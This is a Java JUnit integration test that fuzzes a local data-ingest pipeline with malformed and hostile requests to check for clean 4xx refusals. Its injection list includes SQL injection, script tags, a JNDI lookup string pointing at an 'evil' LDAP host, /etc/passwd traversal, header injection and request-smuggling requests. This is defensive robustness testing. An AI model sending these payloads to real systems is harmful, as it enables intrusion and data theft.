package dev.tributary.bootstrap;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tributary.domain.batch.BatchId;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The bad-input suite (issue 13): well over a thousand generated bad requests against the whole local pipeline —
 * malformed JSON, NDJSON and CSV, invalid UTF-8 and BOMs, huge numbers, deep nesting, long lines, wrong types,
 * injection strings in fields, source names and headers (control characters too), path traversal, unknown routes and
 * methods, wrong keys — and seeded byte-level mutations of good bodies. Expected: no 5xx; every 4xx is problem+json
 * with a detail that repeats nothing the caller sent; every 202 reaches the ledger (bad records quarantined, nothing
 * accepted lost). Prints its figures.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputIT {
    private static final long SEED = 20261204L;
    /** Marks every injected string: no answer may echo it. */
    private static final String MARK = "zz9plural";
    private static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE applied_batches; --" + MARK, "<script>alert('" + MARK + "')</script>",
            "${jndi:ldap://evil/" + MARK + "}", "../../../../etc/passwd" + MARK, MARK + "\u0000nul",
            MARK + "\u202Eevil", MARK + "\r\nSet-Cookie: x=1", "%00" + MARK, "{{7*7}}" + MARK, MARK + "😀🔥",
            "\\\\u0000" + MARK, MARK.repeat(5000));

    @TempDir
    static Path data;
    TestPipeline tributary;
    final Random random = new Random(SEED);
    final Map<String, Integer> byCategory = new TreeMap<>();
    final Map<Integer, Integer> byStatus = new TreeMap<>();
    final List<String> failures = new ArrayList<>();
    final List<BatchId> accepted = new ArrayList<>();
    final List<String> answered200 = new ArrayList<>();

    @BeforeAll
    void start() {
        tributary = TestPipeline.start(data, Map.of("tributary.ingest.rate-per-second", 1_000_000,
                "tributary.ingest.rate-burst", 1_000_000, "tributary.ingest.max-batch-bytes", 1_048_576));
    }

    @AfterAll
    void stop() {
        tributary.close();
    }

    @Test
    void noBadRequestGetsA5xxEveryRefusalIsAProblemAndNothingAcceptedIsLost() throws Exception {
        malformedBodies();
        wrongTypesAndInjectionsInRecords();
        mutatedBodies(700);
        badSourceNamesAndPaths();
        badHeadersAndKeys();
        unknownRoutesAndMethods();
        rawProtocol();

        int tried = byCategory.values().stream().mapToInt(Integer::intValue).sum();
        await().atMost(Duration.ofSeconds(60)).until(() -> accepted.stream()
                .allMatch(b -> tributary.appliedRawRecords(b).isPresent()));
        long fiveXx = byStatus.entrySet().stream().filter(e -> e.getKey() >= 500).mapToLong(Map.Entry::getValue).sum();
        System.out.printf("bad-input suite: %d requests tried (%s), answers %s, 5xx %d, problems that broke the rules %d,"
                + " accepted %d, lost 0 (every accepted batch is in the ledger)%n", tried, byCategory, byStatus, fiveXx,
                failures.size(), accepted.size());
        System.out.println("bad-input suite: answered 200 (reads that are allowed): " + answered200);
        assertThat(failures).isEmpty();
        assertThat(fiveXx).isZero();
        assertThat(tried).isGreaterThanOrEqualTo(1000);
    }

    // --- generators ---

    private void malformedBodies() {
        List<String> json = new ArrayList<>(List.of("", " ", "{", "}", "[", "]", "[{]", "{\"order_id\":}", "{\"a\" 1}",
                "{'order_id':'x'}", "null", "true", "42", "\"text\"", "[1,2,3]", "[[]]", "{} {}", "{\"a\":1}garbage",
                "{\"a\":1,}", "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":01}", "{\"a\":1e99999999}", "{\"a\":\"\\x\"}",
                "{\"a\":\"unterminated}", "{\"a\":1,\"a\":2}", "\u0000{}", "{\"a\":\"\u0001\"}", "/* c */ {}"));
        json.add("{\"amount_cents\":" + "9".repeat(5000) + "}");
        json.add("[".repeat(10_000) + "]".repeat(10_000));
        json.add("{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000));
        json.add("{\"order_id\":\"" + "x".repeat(900_000) + "\"}");
        json.add("[" + "{},".repeat(5_000) + "{}]");
        for (String body : json) {
            post("malformed json", "shop_orders", "application/json", bytes(body));
        }
        List<String> ndjson = List.of("", "\n\n\n", "{}\n{", "[1]\n", "\"s\"\n", "{}\nnot json\n{}", "{}\r{}\r",
                "{\"sensor_id\":\"s1\"}\n".repeat(3) + "{", "x".repeat(600_000) + "\n",
                "{\"sensor_id\":\"" + "y".repeat(700_000) + "\"}\n", "{}\n".repeat(60_000));
        for (String body : ndjson) {
            post("malformed ndjson", "sensor_readings", "application/x-ndjson", bytes(body));
        }
        List<String> csv = List.of("", "\n", "Ticket ID,Priority,Opened\n", "Ticket ID,Priority,Opened\n\"T-1,high\n",
                "Ticket ID,Priority,Opened\nT-1,high,2026-11-22 08:00,extra,extra\n", "no,header,here\n1\n",
                "Ticket ID,Priority,Opened\n" + "T,high,x\n".repeat(20_000), "a\"b,c\n\"d\n",
                "Ticket ID,Priority,Opened\n" + "z".repeat(500_000) + "\n", ",,,,,,,,,,\n,,\n",
                "Ticket ID,Ticket ID,Opened\nT-1,T-2,2026-11-22 08:00\n");
        for (String body : csv) {
            post("malformed csv", "support_tickets", "text/csv", bytes(body));
        }
        byte[][] invalidUtf8 = {{(byte) 0xC3, 0x28}, {(byte) 0xFF, (byte) 0xFE, '{', '}'}, {'{', '"', 'a', '"', ':',
                '"', (byte) 0xE2, (byte) 0x28, (byte) 0xA1, '"', '}'}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}};
        for (byte[] body : invalidUtf8) {
            post("invalid utf-8", "shop_orders", "application/json", body);
            post("invalid utf-8", "sensor_readings", "application/x-ndjson", body);
            post("invalid utf-8", "support_tickets", "text/csv", body);
        }
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        post("bom", "sensor_readings", "application/x-ndjson", concat(bom, bytes(goodReading())));
        post("bom", "support_tickets", "text/csv", concat(bom, bytes(goodTickets())));
        post("bom", "shop_orders", "application/json", concat(bom, bytes(goodOrder())));
        post("bom", "sensor_readings", "application/x-ndjson", bytes(goodReading() + "\uFEFF" + goodReading()));
        post("bom", "shop_orders", "application/json", concat(bom, concat(bom, bytes(goodOrder()))));
    }

    private void wrongTypesAndInjectionsInRecords() {
        List<String> values = new ArrayList<>(List.of("\"hot\"", "[1,2]", "{\"f\":1}", "true", "null", "-1e308",
                "1e400", "\"\"", "0x10", "\"12,5\"", "99999999999999999999999999999999"));
        for (String v : values) {
            post("wrong types", "sensor_readings", "application/x-ndjson",
                    bytes("{\"sensor_id\":\"s1\",\"temperature_f\":" + v + ",\"read_at\":1795514410000}\n"));
            post("wrong types", "sensor_readings", "application/x-ndjson",
                    bytes("{\"sensor_id\":" + v + ",\"temperature_f\":50,\"read_at\":" + v + "}\n"));
            post("wrong types", "shop_orders", "application/json", bytes("{\"order_id\":" + v
                    + ",\"customer\":" + v + ",\"amount_cents\":" + v + ",\"ordered_at\":" + v + "}"));
        }
        for (String injection : INJECTIONS) {
            String quoted = JsonText.quote(injection);
            post("injection in fields", "sensor_readings", "application/x-ndjson", bytes("{\"sensor_id\":" + quoted
                    + ",\"temperature_f\":50,\"read_at\":1795514410000}\n"));
            post("injection in fields", "shop_orders", "application/json", bytes("{\"order_id\":" + quoted
                    + ",\"country\":" + quoted + ",\"amount_cents\":100,\"ordered_at\":" + quoted + "}"));
            post("injection in fields", "support_tickets", "text/csv", bytes("Ticket ID,Priority,Opened\n\""
                    + injection.replace("\"", "\"\"") + "\",high,2026-11-22 08:00\n"));
            post("injection in fields", "sensor_readings", "application/x-ndjson", bytes("{" + quoted
                    + ":1,\"sensor_id\":\"s\",\"temperature_f\":1,\"read_at\":1795514410000}\n"));
        }
    }

    /** Seeded byte-level mutations of good bodies: flips, cuts, repeats, inserted bytes. */
    private void mutatedBodies(int count) {
        List<Supplier<Object[]>> good = List.of(
                () -> new Object[]{"sensor_readings", "application/x-ndjson", bytes(goodReading().repeat(3))},
                () -> new Object[]{"shop_orders", "application/json", bytes("[" + goodOrder() + "," + goodOrder() + "]")},
                () -> new Object[]{"support_tickets", "text/csv", bytes(goodTickets())});
        for (int i = 0; i < count; i++) {
            Object[] g = good.get(i % good.size()).get();
            post("mutated bodies", (String) g[0], (String) g[1], mutate((byte[]) g[2]));
        }
    }

    private void badSourceNamesAndPaths() {
        List<String> paths = new ArrayList<>(List.of("/ingest/Sensor_Readings", "/ingest/sensor-readings",
                "/ingest/sensor_readings/extra", "/ingest/", "/ingest", "/ingest/%00", "/ingest/..%2fapi%2fsources",
                "/ingest/%2e%2e/api/sources", "/ingest/" + "a".repeat(300), "/ingest/%E2%80%AE" + MARK,
                "/ingest/sensor_readings%3B" + MARK, "/ingest/sensor_readings;drop", "/ingest//sensor_readings",
                "/ingest/%20sensor_readings", "/ingest/1abc", "/ingest/_x", "/ingest/no_such_source"));
        for (String injection : INJECTIONS.subList(0, INJECTIONS.size() - 1)) {
            paths.add("/ingest/" + java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8));
        }
        for (String path : paths) {
            send("bad source names", HttpRequest.newBuilder(uri(path)).header("Content-Type", "application/x-ndjson")
                    .header("Authorization", "Bearer " + tributary.keyFor("/ingest/sensor_readings"))
                    .POST(HttpRequest.BodyPublishers.ofString(goodReading())).build());
        }
    }

    private void badHeadersAndKeys() {
        List<String> contentTypes = List.of("", "text/plain", "application/xml", "application/json; charset=latin1",
                "application/x-ndjson; boundary=" + MARK, "*/*", "application/" + MARK, "multipart/form-data", ";;;",
                "application/json".repeat(100));
        for (String type : contentTypes) {
            HttpRequest.Builder b = HttpRequest.newBuilder(uri("/ingest/sensor_readings"))
                    .header("Authorization", "Bearer " + tributary.keyFor("/ingest/sensor_readings"))
                    .POST(HttpRequest.BodyPublishers.ofString(goodReading()));
            if (!type.isEmpty()) {
                b.header("Content-Type", type);
            }
            send("bad content types", b.build());
        }
        List<String> idempotencyKeys = List.of(" ", "has space", "x".repeat(256), MARK + "\u00e9", "tab\there");
        for (String key : idempotencyKeys) {
            raw("bad idempotency keys", "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                    + tributary.keyFor("/ingest/sensor_readings") + "\r\nContent-Type: application/x-ndjson\r\n"
                    + "Idempotency-Key: " + key + "\r\nContent-Length: " + goodReading().length() + "\r\n"
                    + "Connection: close\r\n\r\n" + goodReading());
        }
        List<String> authorizations = new ArrayList<>(List.of("Bearer", "Bearer ", "bearer x", "Basic Zm9vOmJhcg==",
                "Bearer " + "k".repeat(6000), "Token abc", "Bearer trb_" + MARK, "Bearer " + MARK + " extra",
                "Bearer " + tributary.keyFor("/ingest/shop_orders"), "Bearer " + tributary.keyFor("/api")));
        for (int i = 0; i < 40; i++) {
            authorizations.add("Bearer trb_" + randomAscii(43));
        }
        for (String authorization : authorizations) {
            send("wrong keys", HttpRequest.newBuilder(uri("/ingest/sensor_readings"))
                    .header("Content-Type", "application/x-ndjson").header("Authorization", authorization)
                    .POST(HttpRequest.BodyPublishers.ofString(goodReading())).build());
            send("wrong keys", HttpRequest.newBuilder(uri("/api/sources")).header("Authorization", authorization)
                    .GET().build());
        }
        send("wrong keys", HttpRequest.newBuilder(uri("/ingest/sensor_readings"))
                .header("Content-Type", "application/x-ndjson").POST(HttpRequest.BodyPublishers.ofString(goodReading()))
                .build());
        send("huge headers", HttpRequest.newBuilder(uri("/api/sources"))
                .header("Authorization", "Bearer " + tributary.keyFor("/api")).header("X-Padding", "p".repeat(20_000))
                .GET().build());
        send("huge headers", HttpRequest.newBuilder(uri("/api/sources?" + "q=1&".repeat(3_000)))
                .header("Authorization", "Bearer " + tributary.keyFor("/api")).GET().build());
    }

    private void unknownRoutesAndMethods() {
        List<String> paths = List.of("/nope", "/api/nope", "/api/aggregates/nope/nope", "/api/aggregates/shop_orders/x",
                "/api/quarantine?limit=abc", "/api/quarantine?limit=-5", "/api/aggregates/shop_orders/"
                + "shop_orders_per_hour_by_country?from=yesterday", "/api/lineage/shop_orders/x?bucket=" + MARK,
                "/%2e%2e/%2e%2e/etc/passwd", "/..;/api/sources", "/api/%2e%2e/health", "/openapi/../application.yml",
                "/api/aggregates/shop_orders/shop_orders_per_hour_by_country?limit=99999999999999999999");
        for (String path : paths) {
            send("unknown routes", HttpRequest.newBuilder(uri(path))
                    .header("Authorization", "Bearer " + tributary.keyFor("/api")).GET().build());
        }
        for (String method : List.of("PUT", "DELETE", "PATCH", "GET")) {
            send("wrong methods", HttpRequest.newBuilder(uri("/ingest/sensor_readings"))
                    .header("Authorization", "Bearer " + tributary.keyFor("/ingest/sensor_readings"))
                    .method(method, HttpRequest.BodyPublishers.ofString(goodReading())).build());
            send("wrong methods", HttpRequest.newBuilder(uri("/api/sources"))
                    .header("Authorization", "Bearer " + tributary.keyFor("/api"))
                    .method(method.equals("GET") ? "POST" : method, HttpRequest.BodyPublishers.noBody()).build());
        }
    }

    /** What an HTTP client library refuses to send: control characters, bad request lines, header injection. */
    private void rawProtocol() {
        String key = tributary.keyFor("/ingest/sensor_readings");
        List<String> requests = List.of(
                "POST /ingest/sensor%0d%0aX:%20y HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /api/sources\u0001 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /" + "a".repeat(10_000) + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "BREW /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key
                        + "\r\nContent-Type: application/x-ndjson\r\nX-Evil: a\u0000b\r\nContent-Length: "
                        + goodReading().length() + "\r\nConnection: close\r\n\r\n" + goodReading(),
                "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key
                        + "\r\nContent-Type: application/x-ndjson\r\nContent-Length: 99999\r\nConnection: close\r\n\r\n{",
                "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key
                        + "\r\nContent-Type: application/x-ndjson\r\nContent-Length: -1\r\nConnection: close\r\n\r\n",
                "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key + "\r\nContent-Type:"
                        + " application/x-ndjson\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
                "POST /ingest/sensor_readings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key + "\r\nContent-Type:"
                        + " application/x-ndjson\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close"
                        + "\r\n\r\n0\r\n\r\n",
                "GET /api/sources HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key + "\r\nAuthorization: Bearer x"
                        + "\r\nConnection: close\r\n\r\n");
        for (String request : requests) {
            raw("raw protocol", request);
        }
    }

    // --- sending and judging ---

    private void post(String category, String source, String contentType, byte[] body) {
        send(category, HttpRequest.newBuilder(uri("/ingest/" + source)).header("Content-Type", contentType)
                .header("Authorization", "Bearer " + tributary.keyFor("/ingest/" + source))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build());
    }

    private void send(String category, HttpRequest request) {
        HttpResponse<String> response = tributary.sendAsIs(request);
        judge(category, request.method() + " " + shorten(request.uri().getRawPath()), response.statusCode(),
                response.headers().firstValue("Content-Type").orElse(""), response.body());
    }

    /** One request over a plain socket; the server may also close the connection on garbage, never answer 5xx. */
    private void raw(String category, String request) {
        try (Socket socket = new Socket(tributary.url().getHost(), tributary.url().getPort())) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.UTF_8));
            out.flush();                          // every request says Connection: close; the server ends it
            String answer = new String(readAll(socket.getInputStream()), StandardCharsets.UTF_8);
            String what = "raw " + shorten(request.lines().findFirst().orElse(""));
            if (answer.isEmpty()) {
                count(category, 0);               // closed without an answer: refused, nothing accepted
                return;
            }
            int status = Integer.parseInt(answer.substring(9, 12));
            int split = answer.indexOf("\r\n\r\n");
            String head = answer.substring(0, Math.max(0, split)).toLowerCase(java.util.Locale.ROOT);
            String type = head.lines().filter(l -> l.startsWith("content-type:")).map(l -> l.substring(13).strip())
                    .findFirst().orElse("");
            judge(category, what, status, type, split < 0 ? "" : unchunk(head, answer.substring(split + 4)));
        } catch (IOException e) {
            count(category, 0);                   // reset by the server: refused, nothing accepted
        }
    }

    private void judge(String category, String what, int status, String contentType, String body) {
        count(category, status);
        if (status >= 500) {
            failures.add(what + " -> " + status + ": " + shorten(body));
        } else if (status == 202) {
            accepted.add(BatchId.parse(TestPipeline.json(body).get("batchId").asText()));
        } else if (status >= 400) {
            if (!contentType.startsWith("application/problem+json")) {
                failures.add(what + " -> " + status + " as " + contentType + ": " + shorten(body));
                return;
            }
            JsonNode problem = TestPipeline.json(body);
            String detail = problem.path("detail").asText("");
            if (problem.path("status").asInt() != status || detail.isBlank()) {
                failures.add(what + " -> " + status + " without a status or detail: " + shorten(body));
            } else if (detail.contains(MARK) || detail.contains("trb_")) {
                failures.add(what + " -> " + status + " echoes what was sent: " + shorten(detail));
            }
        } else if (status == 200) {
            answered200.add(what);
        } else {
            failures.add(what + " -> unexpected " + status);
        }
    }

    private void count(String category, int status) {
        byCategory.merge(category, 1, Integer::sum);
        byStatus.merge(status, 1, Integer::sum);
    }

    // --- data ---

    private static String goodReading() {
        return "{\"sensor_id\":\"s1\",\"temperature_f\":50,\"read_at\":1795514410000}\n";
    }

    private static String goodOrder() {
        return "{\"order_id\":\"ORD-000001\",\"country\":\"DE\",\"amount_cents\":1990,\"customer\":\"c-1\","
                + "\"ordered_at\":\"2026-11-22T08:00:00Z\"}";
    }

    private static String goodTickets() {
        return "Ticket ID,Priority,Opened\nT-1,high,2026-11-22 08:00\nT-2,low,2026-11-22 09:00\n";
    }

    private byte[] mutate(byte[] body) {
        byte[] b = body.clone();
        switch (random.nextInt(5)) {
            case 0 -> b[random.nextInt(b.length)] = (byte) random.nextInt(256);
            case 1 -> b = java.util.Arrays.copyOf(b, random.nextInt(b.length));
            case 2 -> {
                int at = random.nextInt(b.length);
                b = concat(java.util.Arrays.copyOf(b, at), concat(new byte[]{(byte) random.nextInt(256)},
                        java.util.Arrays.copyOfRange(b, at, b.length)));
            }
            case 3 -> {
                byte[] syntax = "{}[]\",:\\\n\r\u0000".getBytes(StandardCharsets.UTF_8);
                for (int i = 0; i < 1 + random.nextInt(8); i++) {
                    b[random.nextInt(b.length)] = syntax[random.nextInt(syntax.length)];
                }
            }
            default -> b = concat(b, java.util.Arrays.copyOf(b, random.nextInt(b.length)));
        }
        return b;
    }

    private String randomAscii(int n) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < n; i++) {
            s.append((char) (0x21 + random.nextInt(94)));
        }
        return s.toString();
    }

    private URI uri(String pathAndQuery) {
        return URI.create(tributary.url() + pathAndQuery);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] c = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, c, a.length, b.length);
        return c;
    }

    private static byte[] readAll(InputStream in) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        in.transferTo(out);
        return out.toByteArray();
    }

    /** A chunked answer's body, joined; others as they are. */
    private static String unchunk(String head, String body) {
        if (!head.contains("transfer-encoding: chunked")) {
            return body;
        }
        StringBuilder out = new StringBuilder();
        int at = 0;
        while (at < body.length()) {
            int eol = body.indexOf("\r\n", at);
            if (eol < 0) {
                break;
            }
            int size = Integer.parseInt(body.substring(at, eol).strip(), 16);
            if (size == 0) {
                break;
            }
            out.append(body, eol + 2, Math.min(body.length(), eol + 2 + size));
            at = eol + 2 + size + 2;
        }
        return out.toString();
    }

    private static String shorten(String s) {
        return s.length() > 160 ? s.substring(0, 160) + "…" : s;
    }

    /** JSON string quoting without a library, so the test controls exactly which bytes go out. */
    private static final class JsonText {
        static String quote(String s) {
            StringBuilder q = new StringBuilder("\"");
            for (char c : s.toCharArray()) {
                switch (c) {
                    case '"' -> q.append("\\\"");
                    case '\\' -> q.append("\\\\");
                    default -> {
                        if (c < 0x20) {
                            q.append(String.format("\\u%04x", (int) c));
                        } else {
                            q.append(c);
                        }
                    }
                }
            }
            return q.append('"').toString();
        }
    }
}
